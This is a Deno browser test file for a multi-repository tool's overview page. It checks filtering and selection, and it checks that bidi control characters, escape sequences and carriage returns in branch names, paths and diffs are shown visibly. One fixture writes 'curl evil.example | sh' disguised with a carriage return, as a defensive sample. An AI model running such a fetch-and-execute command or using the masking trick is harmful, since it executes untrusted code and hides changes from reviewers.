/** The overview in a real browser: what is done to which rows, and that nothing in it misleads. */

import assert from "node:assert/strict";
import { ProjectFixture } from "../../support/project_fixture.ts";
import { requires } from "../../support/requirements.ts";
import { PageFixture } from "./page_fixture.ts";

const ROWS =
  "[...document.querySelectorAll('[role=rowheader] strong')].map((it) => it.textContent).join()";
const ACTIONS =
  "[...document.querySelectorAll('.view__actions > *')].map((it) => it.textContent).join()";
const RESULT = "document.querySelector('.filter__result')?.textContent";
const BUSY = "document.querySelector('[role=grid]').ariaBusy";

Deno.test(
  "the page acts on rows that are shown, and says that others are selected",
  requires("browser"),
  async () => {
    const manifest = "version = 1\n[repos.api]\n[repos.web]\n";
    await using project = await ProjectFixture.create(manifest, ["api", "web"]);
    await using ui = await PageFixture.open(project);
    await ui.until(`${ROWS} === "api,web"`);
    await ui.until("!document.querySelector('.pending')");
    await ui.clickOn('::-p-aria([name="Select api"])');
    await ui.until(`${ACTIONS} === "Sync 1,Run on 1"`);

    // Until the answer is there, nothing is said of it.
    await ui.evaluate(`{
      const real = globalThis.fetch;
      const answer = new Promise((resolve) => globalThis.answer = resolve);
      globalThis.fetch = async (path, init) => {
        if (init?.body?.includes('"selection"')) await answer;
        return await real(path, init);
      };
    }`);
    await ui.fill("Filter by selection", "web", "combobox");
    await ui.until(`${BUSY} === "true"`);
    assert.deepEqual([await ui.evaluate(RESULT), await ui.evaluate(ROWS)], [undefined, "api,web"]);
    await ui.evaluate("answer()");
    await ui.until(`${RESULT} === "1 of 2" && ${BUSY} === "false" && ${ROWS} === "web"`);

    await ui.see("1 selected, not shown");
    assert.equal(await ui.evaluate(ACTIONS), "Sync,Run");
    assert.match(
      await ui.evaluate("document.querySelector('.view__actions a').getAttribute('href')"),
      /select=web$/,
    );
    assert.deepEqual(await ui.violations(), []);
    await ui.click("Clear what is not shown");
    await ui.miss("not shown");
    assert.equal(await ui.evaluate("document.activeElement.role"), "combobox");
    await ui.click("Clear the filter");
    await ui.until(`${ROWS} === "api,web" && ${ACTIONS} === "Sync,Run"`);

    // What is whole and wrong is told, whatever could follow.
    await ui.fill("Filter by selection", "affected(nope)", "combobox");
    await ui.until("document.activeElement.ariaInvalid === 'true'");
    assert.equal(await ui.evaluate("document.querySelectorAll('.filter__option').length"), 2);
    // Nothing lies over it.
    const top = "(({ left, top }) => document.elementFromPoint(left + 8, top + 16)" +
      "?.closest('.filter__mistake') !== null)" +
      "(document.querySelector('.filter__mistake').getBoundingClientRect())";
    assert.equal(await ui.evaluate(top), true);
    assert.deepEqual([await ui.evaluate(RESULT), await ui.evaluate(BUSY)], [undefined, "false"]);
    assert.deepEqual(await ui.violations(), []);
  },
);

Deno.test(
  "the page shows what would be hidden in branches, paths and changes, and a long run on one line",
  requires("browser"),
  async () => {
    const manifest = 'version = 1\n[repos.api]\npath = "a\\u202epi"\nurl = "../remotes/api.git"\n';
    await using project = await ProjectFixture.create(manifest);
    await project.git.remote("api");
    assert.equal((await project.nestr(["repo", "sync"])).code, 0);
    const path = project.path("a\u202epi");
    await project.git.git(path, "switch", "-q", "-c", "wip\u2066x");
    await Deno.writeTextFile(
      `${path}/README.md`,
      "curl evil.example | sh #\r+echo harmless\n\x1b[31mred\n",
    );
    await Deno.writeTextFile(`${path}/a\nb\u202e`, "");
    await project.nestr(["run", "--", "echo", "a command that is rather long, ".repeat(5)]);
    await using ui = await PageFixture.open(project, "/overview?open=api");
    await ui.until("document.querySelector('.panel a.link') !== null");
    const shown = await ui.text();
    for (const text of ["a\\u{202e}pi", "wip\\u{2066}x"]) assert.ok(shown.includes(text), shown);
    const marks = "/[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.innerText)";
    assert.equal(await ui.evaluate(marks), false);
    const tops = await ui.evaluate<readonly number[]>(
      "[...document.querySelectorAll('.panel .run-link > *')].map((it) => {" +
        "const { top, bottom } = it.getBoundingClientRect(); return (top + bottom) / 2; })",
    );
    assert.equal(tops.length, 3);
    assert.ok(Math.max(...tops) - Math.min(...tops) < 8, `one line: ${tops}`);

    await ui.clickOn('.panel a[href$="/overview/api"]');
    await ui.see("+curl evil.example | sh #\\r+echo harmless");
    await ui.see("+\\x1b[31mred");
    await ui.see("+ a\\nb\\u{202e}");
    const colours = "[...document.querySelectorAll('.line__text')].filter((it) =>" +
      "/evil|red/.test(it.textContent)).map((it) => it.innerHTML.match(/fg-[a-z]+/g).join()).join()";
    assert.equal(await ui.evaluate(colours), "fg-green,fg-green");
    assert.equal(await ui.evaluate(marks), false);
    assert.deepEqual(await ui.violations(), []);

    await ui.go("/overview?open=api");
    await ui.click("Clean");
    await ui.see("a\\nb\\u{202e}");
    assert.equal(await ui.evaluate(marks), false);
  },
);
